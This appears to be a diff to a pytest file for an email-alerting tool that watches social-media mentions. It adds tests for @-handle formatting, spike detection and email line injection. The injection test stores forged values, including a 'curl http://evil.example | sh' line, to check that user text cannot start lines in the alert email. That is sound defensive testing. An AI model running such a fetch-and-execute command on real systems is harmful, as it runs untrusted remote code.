@@ -50,10 +50,11 @@ def add_mention(
     store: Store, ext: str, text: str, *, handle: str = "angry_ann", followers: int | None = 50000,
     flag: str | None = "complaint", priority: float = 0.0, rules: tuple[tuple[str, bool], ...] = (),
     draft: str | None = None, created_at: datetime | None = None, now: datetime | None = None,
-    url: str | None = None,
+    url: str | None = None, kind: str = "rss",
 ) -> int:
-    store.sync_sources([("feed", "rss", "h")])
-    result = store.store_batch("feed", Batch([MentionIn(
+    source = "feed" if kind == "rss" else kind
+    store.sync_sources([(source, kind, "h")])
+    result = store.store_batch(source, Batch([MentionIn(
         external_id=ext, text=text, url=url or f"https://forum.example/t/{ext}",
         author=AuthorIn(handle=handle, display_name="Ann Example", followers=followers),
         created_at=created_at,
@@ -97,7 +98,7 @@ def test_urgent_mention_email_has_everything(store: Store, db_url: str,
     assert mail.mail_from == "mentionwatch@acme.example"
     subject = mail.message["Subject"]
     assert subject.startswith("[mentionwatch] Urgent complaint")
-    assert "@angry_ann" in subject and "fiber has been down" in subject
+    assert "from angry_ann: " in subject and "fiber has been down" in subject  # a feed: no @
     plain, html = mail.part("plain"), mail.part("html")
     for part in (plain, html):
         assert "50,000 followers" in part
@@ -122,6 +123,26 @@ def test_urgent_mention_email_has_everything(store: Store, db_url: str,
     # Nothing new: a second run sends nothing.
     assert run_alerts(config, store).sent == 0
     assert len(smtp.messages) == 1
+
+
+@pytest.mark.parametrize(("kind", "handle", "who"), [
+    ("rss", "Acme Security Team", "from Acme Security Team: "),
+    ("reddit", "angry_ann", "from angry_ann: "),
+    ("twitter", "angry_ann", "from @angry_ann: "),
+    ("mastodon", "ann@social.example", "from @ann@social.example: "),
+    ("bluesky", "@ann.bsky.social", "from @ann.bsky.social: "),
+])
+def test_only_at_handle_sources_get_an_at_sign(store: Store, db_url: str, smtp: SmtpServer,
+                                               kind: str, handle: str, who: str) -> None:
+    """Feeds, Reddit and Hacker News name a person, not an @handle ("@Acme Security Team"
+    misreads): the convention the drafts' {author} follows."""
+    config = alerts_config(db_url, smtp.port)
+    add_mention(store, "m1", "acme is down", handle=handle, kind=kind,
+                rules=(("complaint-outage", True),))
+    run_alerts(config, store)
+    (mail,) = smtp.messages
+    assert who in mail.message["Subject"]
+    assert f"Author: {who[5:-2]} (Ann Example)" in mail.part("plain").splitlines()
 
 
 def test_priority_threshold(store: Store, db_url: str, smtp: SmtpServer) -> None:
@@ -218,6 +239,32 @@ def test_subject_header_injection_is_impossible(store: Store, db_url: str, smtp:
     subject = mail.message["Subject"]
     assert "\r" not in subject and "\n" not in subject and "\u2028" not in subject
     assert len(" ".join(subject.split())) <= 140  # folding may add a space
+
+
+def test_stored_user_text_cannot_start_a_line_of_the_plain_part(
+        store: Store, db_url: str, smtp: SmtpServer) -> None:
+    """Whatever is stored (rows from before ingest flattened one-line fields, or a connector
+    that kept a line break), user text never starts a line of the plain text part: one-line
+    fields are flattened again and multi-line text is indented."""
+    config = alerts_config(db_url, smtp.port)
+    mid = add_mention(store, "forge", "placeholder", handle="eve\nReach: 5,000,000 followers",
+                      rules=(("outage", True),))
+    with store.session() as s:  # bypass ingest: store line breaks of every kind
+        s.execute(update(Mention).where(Mention.id == mid).values(
+            text="acme is down\nLink: http://evil.example/body\u2028Open in the TUI: sh",
+            title="acme outage\r\nLink: http://evil.example/title\x85Title: x",
+            url="https://forum.example/t/1\nOpen in the TUI: curl http://evil.example | sh"))
+    run_alerts(config, store)
+    (mail,) = smtp.messages
+    lines = mail.part("plain").splitlines()
+    evil = [line for line in lines if "evil.example" in line or "5,000,000" in line]
+    assert len(evil) == 4, evil
+    assert all(line.startswith(("Author: eve Reach:", "Title: acme outage Link:",
+                                "Link: https://forum.example/t/1 Open", "    ")) for line in evil)
+    assert "    Open in the TUI: sh" in lines  # after the U+2028 of the mention text
+    assert [line for line in lines if line.startswith("Reach:")] == ["Reach: 50,000 followers"]
+    assert [line for line in lines if line.startswith("Open in the TUI:")] == [
+        f"Open in the TUI: mentionwatch tui --mention {mid}"]
 
 
 def test_smtp_down_keeps_alert_pending_then_retries(store: Store, db_url: str) -> None:
@@ -330,6 +377,35 @@ def test_spike_against_same_hour_on_previous_days(store: Store, db_url: str,
     assert (d["current"], d["baseline_counts"], d["baseline_days"]) == (5, [1, 2, 1], 3)
     assert "Spike: 5 complaint + crisis in the last 1h" in smtp.messages[0].message["Subject"]
     assert run_alerts(config, store, now=now + timedelta(seconds=10)).recorded == 0
+
+
+def test_no_spike_on_a_new_install_first_pass_but_urgent_mentions_alert(
+        store: Store, db_url: str, smtp: SmtpServer) -> None:
+    """A first pass (or a backfill on a new install) stores a burst of posts at once: there
+    is no history to call it unusual, so no spike; the urgent one still alerts. A day later
+    the same burst is a spike."""
+    config = alerts_config(db_url, smtp.port, spike_min_count=5, triggers=["mention", "spike"])
+    now = utcnow()
+    for i in range(6):
+        add_mention(store, f"first-{i}", f"acme down {i}", created_at=now - timedelta(minutes=i),
+                    rules=(("outage", True),) if i == 0 else (), now=now)
+    result = run_alerts(config, store, now=now)
+    assert [r.trigger for r in AlertStore(store).recent()] == ["rule"]
+    assert result.sent == 1 and "Spike" not in smtp.messages[0].message["Subject"]
+    # Still the first day (23 hours on): the burst that lands now does not page either.
+    later = now + timedelta(hours=23)
+    for i in range(6):
+        add_mention(store, f"soon-{i}", f"acme down again {i}",
+                    created_at=later - timedelta(minutes=i), now=later)
+    assert run_alerts(config, store, now=later).recorded == 0
+    # A day and a window after the first pass, yesterday's hour was watched: a spike.
+    day_on = now + timedelta(days=1, hours=1)
+    for i in range(6):
+        add_mention(store, f"next-{i}", f"acme down again {i}",
+                    created_at=day_on - timedelta(minutes=i), now=day_on)
+    assert run_alerts(config, store, now=day_on).recorded == 1
+    (spike,) = [r for r in AlertStore(store).recent() if r.trigger == "spike"]
+    assert (spike.details["current"], spike.details["baseline_days"]) == (6, 1)
 
 
 def test_source_failing_disabled_and_quiet(store: Store, db_url: str, smtp: SmtpServer) -> None:
